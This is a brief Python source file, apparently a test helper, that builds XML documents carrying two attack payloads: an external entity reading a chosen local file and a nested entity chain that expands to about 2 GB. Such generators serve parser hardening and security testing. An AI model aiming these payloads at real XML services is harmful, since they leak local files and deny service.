"""XML whose entities open a file, or multiply: ten letters become 2 GB."""

MULTIPLIED = "&e9;"


def with_entities(root: str, body: str, file: str) -> str:
    """A document whose body may hold `&file;`, the content of a file, and `&e9;`, a text of 2 GB."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!ENTITY e0 "ha">{levels}<!ENTITY file SYSTEM "file://{file}">'
    return f"<?xml version='1.0'?><!DOCTYPE {root} [{declared}]><{root}>{body}</{root}>"
